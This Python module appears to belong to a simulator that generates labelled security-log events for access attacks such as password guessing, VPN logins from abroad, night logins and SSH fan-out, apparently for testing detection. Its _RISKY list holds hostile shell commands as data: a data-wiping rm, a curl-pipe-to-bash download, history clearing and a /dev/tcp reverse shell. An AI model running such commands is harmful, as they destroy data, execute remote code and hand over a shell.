"""Attacks on how people get in: weak passwords, VPN, bastion host, SSH from machine to machine."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from district.calendar import MINUTE_US, SECOND_US
from district.daily.acts import Act, Approved, Entered
from district.daily.devices import Commanded, Tunnel
from district.daily.machines import LINUX
from district.daily.office import port
from district.daily.plot import Plot
from district.episode import Plan
from district.system import Attack, Occasion

__all__ = ["attacks"]

_DEFAULT: Final = ("admin", "oracle", "test", "ftpuser", "guest", "nagios", "tomcat", "support")
_RISKY: Final = (
    "rm -rf /data/*", "curl -fsSL http://203.0.113.9/x.sh | bash", "history -c",
    "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
)  # fmt: skip


class _Access:
    def __init__(self, plot: Plot) -> None:
        self._plot = plot

    def guessed(self, occasion: Occasion) -> Plan:
        plot, chance = self._plot, occasion.chance
        desk, machine = plot.desk("D12", occasion), plot.machine(LINUX, occasion, "D12")
        names = [chance.choice(_DEFAULT) for _ in range(plot.times(occasion, 3))]
        happened: list[tuple[int, Act]] = [
            (
                occasion.start + number * 15 * SECOND_US,
                Entered(
                    host=machine.name, user=name, address=desk.address, port=port(chance),
                    method="password", success=False, unknown=chance.random() < 0.5,
                ),
            )
            for number, name in enumerate(names)
        ]  # fmt: skip
        happened.append(
            (
                occasion.start + len(names) * 15 * SECOND_US,
                Entered(
                    host=machine.name, user="oracle", address=desk.address, port=port(chance),
                    method="password",
                ),
            )
        )  # fmt: skip
        return plot.label("D12", occasion, happened, desk.address, "oracle", *names)

    def default_account(self, occasion: Occasion) -> Plan:
        plot, chance = self._plot, occasion.chance
        desk, machine = plot.desk("D13", occasion), plot.machine(LINUX, occasion, "D13")
        method = "publickey" if plot.below(occasion) else "password"
        happened = [
            (
                occasion.start + number * 5 * MINUTE_US,
                Entered(
                    host=machine.name, user="oracle", address=desk.address, port=port(chance),
                    method=method,
                ),
            )
            for number in range(plot.once(occasion))
        ]  # fmt: skip
        return plot.label("D13", occasion, happened, desk.address, "oracle")

    def abroad(self, occasion: Occasion) -> Plan:
        clerk = self._plot.regular("D14", occasion)
        return self._plot.label("D14", occasion, self._abroad(occasion), clerk.user)

    def _abroad(self, occasion: Occasion) -> Iterator[tuple[int, Act]]:
        clerk = self._plot.regular("D14", occasion)
        if self._plot.below(occasion):
            yield (
                occasion.start,
                Approved(
                    register="trips", key=(clerk.user, "NL"), fields={"order": "CG-2026"}, hours=72
                ),
            )
        for number in range(self._plot.once(occasion)):
            yield (
                occasion.start + (number + 1) * MINUTE_US,
                Tunnel(
                    user=clerk.user, address=f"203.0.113.{200 + occasion.number}", inner=clerk.vpn
                ),
            )

    def two_places(self, occasion: Occasion) -> Plan:
        """The owner works at home, somebody else comes from the next province."""
        plot = self._plot
        clerk = plot.regular("D15", occasion)
        gap = 40 if plot.below(occasion) else 12
        happened: list[tuple[int, Act]] = [
            (
                occasion.start,
                Tunnel(user=clerk.user, address=plot.days.home_of(clerk), inner=clerk.vpn),
            )
        ]
        happened += [
            (
                occasion.start + (gap + number) * MINUTE_US,
                Tunnel(
                    user=clerk.user, address=f"198.18.{150 + occasion.number}.9", inner=clerk.vpn
                ),
            )
            for number in range(plot.once(occasion))
        ]  # fmt: skip
        return plot.label("D15", occasion, happened, clerk.user)

    def first_night(self, occasion: Occasion) -> Plan:
        clerk = self._plot.regular("D16", occasion)
        return self._plot.label("D16", occasion, self._first_night(occasion), clerk.user)

    def _first_night(self, occasion: Occasion) -> Iterator[tuple[int, Act]]:
        clerk = self._plot.regular("D16", occasion)
        start = occasion.day.at(occasion.chance.randrange(0, 4), occasion.chance.randrange(60))
        if self._plot.below(occasion):
            yield (
                start,
                Approved(
                    register="night_work", key=(clerk.user,), fields={"why": "release"}, hours=6
                ),
            )
        for number in range(self._plot.once(occasion)):
            yield (
                start + (number + 1) * 4 * MINUTE_US,
                Tunnel(user=clerk.user, address=self._plot.days.home_of(clerk), inner=clerk.vpn),
            )

    def bypassed(self, occasion: Occasion) -> Plan:
        desk = self._plot.desk("D17", occasion)
        return self._plot.label("D17", occasion, self._bypassed(occasion), desk.address, desk.user)

    def _bypassed(self, occasion: Occasion) -> Iterator[tuple[int, Act]]:
        desk = self._plot.desk("D17", occasion)
        machine = self._plot.machine(LINUX, occasion, "D17")
        if self._plot.below(occasion):
            yield occasion.start, Approved(
                register="operation_sources", key=(desk.address,), fields={"kind": "emergency"},
                hours=4,
            )  # fmt: skip
        for number in range(self._plot.once(occasion)):
            yield occasion.start + (number + 1) * MINUTE_US, Entered(
                host=machine.name, user=desk.user, address=desk.address,
                port=port(occasion.chance), method="password",
            )  # fmt: skip

    def risky(self, occasion: Occasion) -> Plan:
        user = self._plot.crew.operators[occasion.number].user
        return self._plot.label("D18", occasion, self._risky(occasion), user)

    def _risky(self, occasion: Occasion) -> Iterator[tuple[int, Act]]:
        operator = self._plot.crew.operators[occasion.number]
        machine = self._plot.machine(LINUX, occasion, "D18")
        if self._plot.below(occasion):
            yield occasion.start, Approved(
                register="changes", key=(operator.user, machine.address), fields={"order": "CH"},
                hours=4,
            )  # fmt: skip
        for number in range(self._plot.once(occasion)):
            yield occasion.start + (number + 1) * MINUTE_US, Commanded(
                user=operator.user, address=operator.address, target=machine.address,
                account="root", command=_RISKY[(number + occasion.number) % len(_RISKY)],
            )  # fmt: skip

    def shared(self, occasion: Occasion) -> Plan:
        plot, chance = self._plot, occasion.chance
        operator = plot.crew.operators[3 + occasion.number]
        # The owner's own machine is one of them: it is used in those hours anyway.
        addresses = [
            operator.address,
            *(f"10.20.{2 + number}.{20 + chance.randrange(12)}" for number in range(8)),
        ]
        happened = [
            (
                occasion.start + number * 150 * SECOND_US,
                Commanded(
                    user=operator.user, address=addresses[number],
                    target=chance.choice(LINUX).address, account="ops", action="session_opened",
                ),
            )
            for number in range(plot.times(occasion, 3))
        ]  # fmt: skip
        return plot.label("D19", occasion, happened, operator.user)

    def fan_out(self, occasion: Occasion) -> Plan:
        plot, chance = self._plot, occasion.chance
        desk = plot.desk("D22", occasion)
        machines = chance.sample(LINUX, plot.times(occasion, 6))
        happened = [
            (
                occasion.start + number * 80 * SECOND_US,
                Entered(host=machine.name, user=desk.user, address=desk.address, port=port(chance)),
            )
            for number, machine in enumerate(machines)
        ]
        return plot.label("D22", occasion, happened, desk.address, desk.user)


def attacks(plot: Plot) -> Iterator[Attack]:
    """All of them."""
    access = _Access(plot)
    yield Attack(use_case="D12", plan=access.guessed)
    yield Attack(use_case="D13", plan=access.default_account)
    yield Attack(use_case="D14", plan=access.abroad, hours="evening")
    yield Attack(use_case="D15", plan=access.two_places, hours="evening")
    yield Attack(use_case="D16", plan=access.first_night, hours="night")
    yield Attack(use_case="D17", plan=access.bypassed, hours="office")
    yield Attack(use_case="D18", plan=access.risky, hours="office")
    yield Attack(use_case="D19", plan=access.shared, hours="office")
    yield Attack(use_case="D22", plan=access.fan_out, hours="evening")
